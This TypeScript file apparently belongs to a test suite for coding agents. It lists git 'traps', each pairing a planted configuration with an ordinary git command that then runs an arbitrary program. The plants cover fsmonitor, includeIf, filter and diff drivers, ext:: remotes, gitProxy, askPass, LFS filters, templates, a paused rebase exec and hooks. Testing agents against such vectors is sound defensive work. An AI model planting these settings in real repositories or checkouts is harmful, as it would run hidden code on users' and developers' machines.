import type { Attack } from './attack.ts';
import { CHANGE, set, type Trap, trap } from './git-traps.ts';

/** Settings and left work in an agent's checkout and HOME that have git run a program, but for those that everybody knows. */

const INCLUDED = (program: string) => `printf '[core]\\n\\tfsmonitor = ${program}\\n'`;

const TRAPS: readonly Trap[] = [
  {
    name: 'a file that its configuration includes where it lies (includeIf)',
    plant: ({ program, stage }) =>
      `${INCLUDED(program)} >more && ${set([`includeIf.gitdir:${stage.layout.tree}/.path`, '../more'], ['includeIf.gitdir:**.path', '../more'])}`,
    careless: 'git status',
  },
  {
    name: 'a file that its configuration includes on its branch (includeIf)',
    plant: ({ program }) => `${INCLUDED(program)} >more && ${set(['includeIf.onbranch:**.path', '../more'])}`,
    careless: 'git status',
  },
  {
    name: 'the configuration of a worktree alone',
    plant: ({ program }) =>
      `${set(['core.repositoryFormatVersion', '1'], ['extensions.worktreeConfig', 'true'])} && git config --worktree core.fsmonitor ${program}`,
    careless: 'git status',
  },
  {
    name: '~/.config/git/config in its HOME',
    plant: ({ program }) => `mkdir -p ~/.config/git && ${INCLUDED(program)} >~/.config/git/config`,
    careless: 'HOME=../homes/coder git status',
  },
  {
    name: 'attributes and a filter in its HOME',
    plant: ({ program }) =>
      `mkdir -p ~/.config/git && echo '* filter=x' >~/.config/git/attributes && git config --global filter.x.clean ${program} && ${CHANGE}`,
    careless: 'HOME=../homes/coder git add -A',
  },
  {
    name: 'core.attributesFile and a filter',
    plant: ({ program }) =>
      `echo '* filter=x' >attributes && ${set(['core.attributesFile', 'attributes'], ['filter.x.clean', program])} && ${CHANGE}`,
    careless: 'git add -A',
  },
  {
    name: 'diff.x.command, by .gitattributes',
    plant: ({ program }) => `${set(['diff.x.command', program])} && echo '* diff=x' >.gitattributes && ${CHANGE}`,
    careless: 'git diff',
  },
  {
    name: 'a trailer that is made by a command',
    plant: ({ command }) =>
      `git config trailer.x.key X && git config trailer.x.ifmissing add && git config trailer.x.command '${command}'`,
    careless: 'echo words | git interpret-trailers --trailer y=z',
  },
  {
    name: 'core.alternateRefsCommand',
    plant: ({ program }) => set(['core.alternateRefsCommand', program]),
    careless:
      'git fetch "$(pwd)/.git" HEAD; git init -q r && git -C r fetch -q .. HEAD; git push -q r HEAD:refs/heads/y; git fetch -q r',
  },
  {
    name: 'a remote that is a program (ext::)',
    plant: ({ program }) => set(['protocol.ext.allow', 'always'], ['remote.origin.url', `ext::${program}`]),
    careless: 'git fetch origin',
  },
  {
    name: 'an address that stands for a program (insteadOf)',
    plant: ({ program }) =>
      set(['protocol.ext.allow', 'always'], [`url.ext::${program} .insteadOf`, 'https://example.invalid/']),
    careless: 'git fetch https://example.invalid/x',
  },
  {
    name: 'core.gitProxy',
    plant: ({ program }) => set(['core.gitProxy', program], ['remote.origin.url', 'git://nowhere.invalid/x']),
    careless: 'git fetch origin',
  },
  {
    name: 'core.askPass',
    plant: ({ program }) => set(['core.askPass', program]),
    careless: 'printf "protocol=https\\nhost=example.com\\n\\n" | GIT_TERMINAL_PROMPT=1 setsid git credential fill',
  },
  {
    name: 'a filter for large files, by name and .lfsconfig',
    plant: ({ program }) =>
      `${set(['filter.lfs.process', program], ['filter.lfs.required', 'true'])} && printf '[lfs]\\n\\turl = ext::x\\n' >.lfsconfig && echo '*.bin filter=lfs' >.gitattributes && echo x >a.bin`,
    careless: 'git add -A',
  },
  {
    name: 'a template for new repositories',
    plant: ({ program }) =>
      `mkdir -p template/hooks && ln -s ${program} template/hooks/post-checkout && ${set(['init.templateDir', 'template'])} && git config --global init.templateDir "$(pwd)/template"`,
    careless: 'HOME=../homes/coder git clone -q . cloned',
  },
  {
    name: 'a rebase that is left in the middle',
    plant: ({ command }) =>
      `${CHANGE} && git commit -qam more && GIT_SEQUENCE_EDITOR='echo break >' git rebase -qi HEAD~1 && echo 'exec ${command}' >.git/rebase-merge/git-rebase-todo`,
    careless: 'git rebase --continue',
  },
  {
    name: 'sequence.editor',
    plant: ({ program }) => `${CHANGE} && git commit -qam more && ${set(['sequence.editor', program])}`,
    careless: 'git rebase -i HEAD~1',
  },
  ...['prepare-commit-msg', 'commit-msg', 'post-commit', 'post-merge', 'post-rewrite'].map(
    (name): Trap => ({
      name: `the hook ${name}`,
      plant: ({ program }) => `${CHANGE} && mkdir -p .git/hooks && ln -s ${program} .git/hooks/${name}`,
      careless:
        'git add -A && git commit -qm x; git commit -q --amend -m y; git switch -qc other HEAD~1 && git merge -q -',
    }),
  ),
];

export const gitSettings: readonly Attack[] = TRAPS.map(trap);
